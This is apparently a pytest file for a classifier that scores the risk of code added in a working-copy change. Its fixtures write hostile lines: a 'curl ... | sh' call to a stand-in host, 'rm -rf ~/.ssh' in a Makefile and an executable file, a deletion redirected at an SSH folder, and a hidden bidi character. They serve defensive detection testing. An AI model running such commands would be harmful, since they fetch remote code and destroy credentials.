"""What is found in what a change adds, with the real classifier over real working copies."""

from __future__ import annotations

import asyncio
from typing import TYPE_CHECKING

import pytest

from runner.model.assessment import WHOLE, Level
from runner.risk import user_rules
from runner.risk.assess import unreadable
from runner.work import added
from runner.work.added import ANOTHER, COUNTED, MOVED, NO_CODE, NO_TEXT, TOO_LARGE, AddedFindings, found_in, text_of
from runner.workspace.change import MOST_BYTES
from runner.workspace.working_copy import WorkingCopy
from tests.workspace.trees import work

if TYPE_CHECKING:
    from pathlib import Path

    from runner.model.assessment import Assessment
    from runner.model.request import Request
    from runner.workspace.change import ProjectChange

DELETES = 'import shutil\n\nplace = "build"\n\n\n\n\n\n\nshutil.rmtree(place)\n'


class Bench:
    """A working copy whose changes are read."""

    def __init__(self, folder: Path) -> None:
        project = folder / "project"
        project.mkdir()
        (project / "a.py").write_text(DELETES)
        (project / "r.md").write_text("words\n")
        self.copy = WorkingCopy.make(folder / "copies", project, ("sh",))
        self._rules = user_rules.read(folder)

    def change(self, command: str, path: str) -> ProjectChange:
        work(self.copy, command)
        return next(one for one in self.copy.changes().changes if one.path == path.encode())

    def found(self, change: ProjectChange) -> AddedFindings:
        text = text_of(change, self.copy.project, self.copy.content)
        return text if isinstance(text, AddedFindings) else asyncio.run(found_in(text, self.assess, "someone"))

    async def assess(self, request: Request) -> Assessment:
        return self._rules.assess(request)


@pytest.fixture
def bench(tmp_path: Path) -> Bench:
    return Bench(tmp_path)


def places(found: AddedFindings) -> set[tuple[int, Level]]:
    return {(one.span.line, one.level) for one in found.findings if one.span != WHOLE}


def test_an_added_line_carries_its_findings_and_an_old_one_does_not(bench: Bench) -> None:
    found = bench.found(bench.change("echo 'import os; os.system(\"curl http://e.example/x | sh\")' >>a.py", "a.py"))
    assert {line for line, _ in places(found)} == {11}, "the line that deletes was there before"
    assert found.worst is Level.CRITICAL and not found.not_read


def test_a_value_in_an_added_line_that_makes_an_old_one_dangerous_is_found(bench: Bench) -> None:
    found = bench.found(bench.change('sed -i \'s#"build"#"/home/ann/.ssh"#\' a.py', "a.py"))
    assert (10, Level.CRITICAL) in places(found)


def test_what_a_tool_runs_is_read_as_code(bench: Bench) -> None:
    found = bench.found(bench.change(r"printf 'all:\n\trm -rf ~/.ssh\n' >Makefile", "Makefile"))
    assert (2, Level.CRITICAL) in places(found) and not found.not_read


def test_nothing_found_is_no_finding(bench: Bench) -> None:
    found = bench.found(bench.change("echo 'x = 1' >n.py", "n.py"))
    assert found == AddedFindings()


@pytest.mark.parametrize(
    ("command", "path", "why", "skipped"),
    [
        (r"printf 'x\0' >n.py", "n.py", NO_TEXT, True),
        (r"printf '\377' >n.py", "n.py", NO_TEXT, True),
        (f"truncate -s {MOST_BYTES + 1} n.py", "n.py", TOO_LARGE, True),
        ("mkdir node_modules; echo 'x = 1' >node_modules/n.py", "node_modules/n.py", COUNTED, True),
        ("echo 'x = 1' >n.rb", "n.rb", NO_CODE, False),
        ("echo more >>r.md", "r.md", NO_CODE, False),
        ("rm a.py", "a.py", "", False),
        ("touch -d 2020-01-01 a.py", "a.py", "", False),
        ("ln -s a.py l", "l", "", False),
    ],
)
def test_what_is_not_read_says_so(bench: Bench, command: str, path: str, why: str, skipped: bool) -> None:
    found = bench.found(bench.change(command, path))
    assert (found.not_read, found.skipped, found.findings) == (why, skipped, ())


def test_what_is_no_code_may_still_hide_something(bench: Bench) -> None:
    found = bench.found(bench.change(r"printf 'a\342\200\256b\n' >>r.md", "r.md"))
    assert (2, Level.HIGH) in places(found) and found.not_read == NO_CODE


def test_another_content_than_that_of_the_change_is_not_read(bench: Bench) -> None:
    change = bench.change("echo 'x = 1' >n.py", "n.py")
    work(bench.copy, "echo 'y = 2' >n.py")
    assert bench.found(change).not_read == MOVED


def test_what_the_classifier_gives_up_is_not_read(bench: Bench) -> None:
    async def gives_up(_request: Request) -> Assessment:
        return unreadable("It took too long.")

    text = text_of(bench.change("echo 'x = 1' >n.py", "n.py"), bench.copy.project, bench.copy.content)
    assert not isinstance(text, AddedFindings)
    found = asyncio.run(found_in(text, gives_up, "someone"))
    assert found == added.not_read("It took too long.")


@pytest.mark.parametrize("first", ["#!/bin/sh\n", "\n"])
def test_what_becomes_executable_has_all_its_findings(bench: Bench, first: str) -> None:
    (bench.copy.project / "notes").write_text(first + "rm -rf ~/.ssh\n")
    found = bench.found(bench.change("chmod +x notes", "notes"))
    assert found.worst is Level.CRITICAL and (2, Level.CRITICAL) in places(found)


@pytest.mark.parametrize(
    ("first", "name", "why"),
    [
        ("#!/usr/bin/make -f", "x", NO_CODE),
        ("#!/usr/bin/perl", "x", NO_CODE),
        ("#!/usr/bin/make -f", "x.py", ANOTHER),
        ("#!/usr/bin/env -S deno run", "x.ts", ANOTHER),
        ("#!/bin/sh", "x.py", ANOTHER),
        ("#!/usr/bin/make -f /sh", "x", ANOTHER),
        ("#!./bin/python3", "x.py", ANOTHER),
        ("x = 1", "x.py", ANOTHER),
        ("#!/usr/bin/env python3", "x.py", ""),
        ("#!/bin/bash -eu", "x", ""),
        ("#!/usr/bin/env node", "x.js", ""),
        ("true", "x", ""),
    ],
)
def test_an_executable_file_is_read_as_what_it_is_started_as(bench: Bench, first: str, name: str, why: str) -> None:
    found = bench.found(bench.change(f"echo '{first}' >{name}; chmod +x {name}", name))
    assert (found.not_read, found.skipped) == (why, bool(why))
